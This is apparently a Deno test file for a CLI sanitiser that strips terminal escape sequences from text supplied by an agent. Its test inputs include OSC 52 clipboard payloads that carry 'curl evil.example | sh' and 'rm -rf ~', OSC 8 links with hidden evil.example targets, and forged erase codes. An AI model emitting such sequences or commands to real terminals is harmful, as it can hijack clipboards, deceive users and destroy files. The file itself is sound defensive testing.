// Agent-supplied text cannot act on the terminal of whoever reads it: every
// control sequence is dropped on the way to a terminal, `\n` and `\t` stay.
import assert from "assert";
import { Output } from "../../../cli/output.ts";
import { shortResult } from "../../../cli/tasks.ts";
import { terminalSafe, TerminalTextFilter } from "../../../cli/terminal_text.ts";

const ESC = "\x1b";
const BEL = "\x07";
const ST = `${ESC}\\`;

Deno.test("terminal text: OSC 52 cannot set the clipboard (BEL or ST ended)", () => {
  const payload = btoa("curl evil.example | sh\n");
  assert.equal(terminalSafe(`before${ESC}]52;c;${payload}${BEL}after`), "beforeafter");
  assert.equal(terminalSafe(`before${ESC}]52;c;${payload}${ST}after`), "beforeafter");
  assert.equal(terminalSafe(`retitle${ESC}]0;sudo password:${BEL}`), "retitle");
});

Deno.test("terminal text: an OSC 8 link shows its text only, never its hidden target", () => {
  const link =
    `${ESC}]8;;https://evil.example/${ST}https://github.com/org/repo/pull/42${ESC}]8;;${ST}`;
  assert.equal(terminalSafe(`pr=${link}`), "pr=https://github.com/org/repo/pull/42");
});

Deno.test("terminal text: CSI sequences (cursor moves, erase, colours) are dropped", () => {
  assert.equal(terminalSafe(`ok${ESC}[2K${ESC}[1A${ESC}[31mred${ESC}[0m`), "okred");
  assert.equal(terminalSafe(`a${ESC}[?1049hb${ESC}[38;5;196mc`), "abc");
});

Deno.test("terminal text: C1 controls, lone ESC and other C0 controls; \\n and \\t stay", () => {
  assert.equal(terminalSafe("a\u009b2Jb"), "ab", "C1 CSI (U+009B) starts a sequence too");
  assert.equal(terminalSafe("a\u009d52;c;eA==\u009cb"), "ab", "C1 OSC ended by C1 ST");
  assert.equal(terminalSafe("a\u0085b\u008dc"), "abc", "other C1 controls");
  assert.equal(terminalSafe(`lone${ESC}`), "lone", "a lone ESC at the end");
  assert.equal(
    terminalSafe(`a${ESC}7b${ESC}(Bc${ESC}cd`),
    "abcd",
    "two- and three-byte ESC sequences",
  );
  assert.equal(terminalSafe("bell\x07 back\bspace\rcr\x00nul\x7fdel"), "bell backspacecrnuldel");
  assert.equal(terminalSafe("line 1\n\tline 2\n"), "line 1\n\tline 2\n");
  assert.equal(terminalSafe("ünïcødé ✓ 日本"), "ünïcødé ✓ 日本");
});

Deno.test("terminal text: an unterminated control string hides at most the rest of its line", () => {
  assert.equal(terminalSafe(`x${ESC}]52;c;AAAA\nnext line\n`), "x\nnext line\n");
});

Deno.test("terminal text: a sequence split across two streamed chunks is still dropped", () => {
  const filter = new TerminalTextFilter();
  const bytes = new TextEncoder().encode(`log ${ESC}]52;c;${btoa("rm -rf ~")}${BEL} end ✓\n`);
  // Split inside the OSC, and again inside the UTF-8 of the check mark.
  const cuts = [6, bytes.length - 3];
  const parts = [
    bytes.subarray(0, cuts[0]),
    bytes.subarray(cuts[0], cuts[1]),
    bytes.subarray(cuts[1]),
  ];
  const printed = parts.map((p) => filter.pushBytes(p)).join("") + filter.end();
  assert.equal(printed, "log  end ✓\n");
  const csi = new TerminalTextFilter();
  assert.equal(csi.push(`a${ESC}`) + csi.push("[2J") + csi.push("b") + csi.end(), "ab");
});

/** An Output writing into memory, with each side said to be a terminal or not. */
function memoryOutput(terminal: boolean) {
  const stdout: Uint8Array[] = [];
  const stderr: Uint8Array[] = [];
  const out = new Output({
    stdout: new WritableStream({ write: (c) => void stdout.push(c.slice()) }),
    stderr: { writeSync: (b) => (stderr.push(b.slice()), b.length) },
    stdoutIsTerminal: terminal,
    stderrIsTerminal: terminal,
  });
  const text = (chunks: Uint8Array[]) =>
    new TextDecoder().decode(new Uint8Array(chunks.flatMap((c) => [...c])));
  return { out, stdout: () => text(stdout), stderr: () => text(stderr) };
}

async function* chunks(...parts: string[]): AsyncIterable<Uint8Array> {
  for (const p of parts) yield new TextEncoder().encode(p);
}

Deno.test("terminal text: the CLI's output strips agent text on a terminal, everywhere", async () => {
  const m = memoryOutput(true);
  m.out.line(`Summary: done${ESC}]52;c;ZXZpbA==${BEL}`); // describe, list
  m.out.info(`output pr=${ESC}]8;;https://evil.example/${ST}pr${ESC}]8;;${ST}`); // run's outputs
  m.out.status(`task/t: Failed (JobFailed): ${ESC}[2Kforged`); // condition messages
  await m.out.stream(chunks(`agent says ${ESC}]5`, `2;c;ZXZpbA==${BEL}hi\n`)); // logs
  await m.out.close();
  assert.equal(m.stdout(), "Summary: done\nagent says hi\n");
  assert.ok(!m.stderr().includes("evil") && !m.stderr().includes(`${ESC}[2K`), m.stderr());
  assert.match(m.stderr(), /output pr=pr\n/);
  assert.match(m.stderr(), /forged/);
});

Deno.test("terminal text: pipes and files get the agent's bytes unchanged", async () => {
  const m = memoryOutput(false);
  const log = `raw ${ESC}[31mred${ESC}[0m\n`;
  m.out.line(log);
  await m.out.stream(chunks(log));
  await m.out.close();
  assert.equal(m.stdout(), `${log}\n${log}`);
});

Deno.test("terminal text: list cuts a result after stripping it, never inside a sequence", () => {
  const link =
    `${ESC}]8;;https://evil.example/${ST}https://github.com/org/repo/pull/42${ESC}]8;;${ST}`;
  const task = { status: { outputs: { pr: link } } };
  assert.equal(shortResult(task, 60, terminalSafe), "https://github.com/org/repo/pull/42");
  assert.equal(shortResult(task, 60).includes("github.com/org/repo/pull/42"), false, "cut raw");
});
